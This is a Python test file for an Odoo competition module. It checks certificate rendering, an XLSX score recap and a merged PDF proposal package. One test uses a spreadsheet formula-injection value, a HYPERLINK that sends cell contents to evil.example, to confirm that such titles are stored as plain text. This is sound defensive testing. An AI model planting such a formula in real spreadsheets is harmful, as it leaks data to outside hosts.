import base64
import io
import re
from unittest.mock import patch

import openpyxl
from PyPDF2 import PdfReader
from reportlab.pdfgen import canvas

from odoo.tests import tagged

from .sinovik_common import SinovikCase


def _fake_wkhtmltopdf(self, bodies, *args, **kwargs):
    """Stand-in for wkhtmltopdf: one PDF page per body with its visible text lines.

    Keeps the test independent of a running HTTP server (wkhtmltopdf fetches the
    report assets from it) while still exercising the real merge of the package.
    """
    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer)
    for raw in bodies:
        html = raw.decode() if isinstance(raw, bytes) else raw
        html = re.sub(r"(?s)<(script|style|head)\b.*?</\1>", " ", html)
        y = 800
        for chunk in re.sub(r"<[^>]+>", "\n", html).splitlines():
            line = " ".join(chunk.split())
            if line:
                pdf.drawString(30, y, line[:100])
                y -= 14
        pdf.showPage()
    pdf.save()
    return buffer.getvalue()


@tagged("post_install", "-at_install")
class TestSinovikReports(SinovikCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env.company.write(
            {"kop_government_name": "PEMERINTAH KOTA MOJOKERTO", "kop_unit_name": "SEKRETARIAT DAERAH"}
        )
        cls.competition.action_open_registration()
        cls.prop_a = cls._proposal(cls.opd_a, "Inovasi Alpha")
        cls.prop_b = cls._proposal(cls.opd_b, "Inovasi Beta")
        (cls.prop_a | cls.prop_b).action_submit()
        cls.competition.action_start_evaluation()
        (cls.prop_a | cls.prop_b).with_user(cls.staff).action_accept()
        # desk: A 100 (5,5), B 52 (2,3); presentation: A 50, B 90
        cls._score(cls.stage_desk, cls.prop_a, cls.juror_1, (5, 5))
        cls._score(cls.stage_desk, cls.prop_b, cls.juror_1, (2, 3))
        cls.stage_desk.action_close()
        cls._score(cls.stage_presentation, cls.prop_a, cls.juror_2, (50, 50))
        cls._score(cls.stage_presentation, cls.prop_b, cls.juror_2, (90, 90))
        cls.stage_presentation.action_close()
        cls.competition.action_announce()

    def test_certificate_has_letterhead_award_and_signature(self):
        report = self.env.ref("sop_survey.action_report_sinovik_certificate")
        html = report._render_qweb_html(report.report_name, self.prop_b.ids)[0].decode()
        self.assertIn("PEMERINTAH KOTA MOJOKERTO", html)
        self.assertIn("SEKRETARIAT DAERAH", html)
        self.assertIn("Dinas Kependudukan", html)
        self.assertIn("Inovasi Beta", html)
        self.assertIn("Rank 1", html)
        self.assertIn("Drs. Budi Santoso", html)
        self.assertIn("NIP. 19700101 199503 1 001", html)

    def test_xlsx_recap(self):
        book = openpyxl.load_workbook(io.BytesIO(self.competition._recap_xlsx()))
        sheet = book["Proposals"]
        rows = list(sheet.iter_rows(values_only=True))
        header = rows[0]
        self.assertEqual(header[1], "Title")
        # ordered by final rank: Beta (1) then Alpha (2)
        self.assertEqual([r[1] for r in rows[1:]], ["Inovasi Beta", "Inovasi Alpha"])
        desk_col = header.index("Desk Evaluation (score)")
        pres_col = header.index("Presentasi (score)")
        rank_col = header.index("Final Rank")
        self.assertEqual((rows[1][desk_col], rows[1][pres_col], rows[1][rank_col]), (52, 90, 1))
        self.assertEqual((rows[2][desk_col], rows[2][pres_col], rows[2][rank_col]), (100, 50, 2))
        self.assertEqual(rows[1][header.index("Award")], "Rank 1")
        scores = list(book["Scores"].iter_rows(values_only=True))
        self.assertEqual(len(scores), 1 + 8)  # 4 assignments x 2 criteria
        action = self.competition.action_export_xlsx()
        self.assertEqual(action["type"], "ir.actions.act_url")

    def test_xlsx_recap_writes_titles_as_text(self):
        """A proposal title that looks like a formula stays text in the recap (no live HYPERLINK)."""
        hostile = '=HYPERLINK("http://evil.example/?d="&C2,"Inovasi")'
        self._proposal(self.opd_c, hostile, complete=False)
        book = openpyxl.load_workbook(io.BytesIO(self.competition._recap_xlsx()))
        cells = [cell for row in book["Proposals"].iter_rows() for cell in row if cell.value == hostile]
        self.assertEqual([cell.data_type for cell in cells], ["s"])

    def test_export_package_is_one_pdf_in_form_order(self):
        with patch.object(type(self.env["ir.actions.report"]), "_run_wkhtmltopdf", _fake_wkhtmltopdf):
            # force_report_rendering: a real PDF even in test mode (Odoo renders HTML there)
            proposals = (self.prop_a | self.prop_b).with_user(self.staff).with_context(force_report_rendering=True)
            action = proposals.action_export_package()
        attachment_id = int(action["url"].split("/web/content/")[1].split("?")[0])
        data = base64.b64decode(self.env["ir.attachment"].browse(attachment_id).datas)
        self.assertTrue(data.startswith(b"%PDF"))
        text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)
        # finalists in final-rank order, sections in the order of the national form
        self.assertLess(text.index("Inovasi Beta"), text.index("Inovasi Alpha"))
        self.assertEqual(len(PdfReader(io.BytesIO(data)).pages), 2)
        beta = text[text.index("Inovasi Beta") : text.index("Inovasi Alpha")]
        self.assertLess(beta.index("1. Ringkasan"), beta.index("2. Kebaruan"))
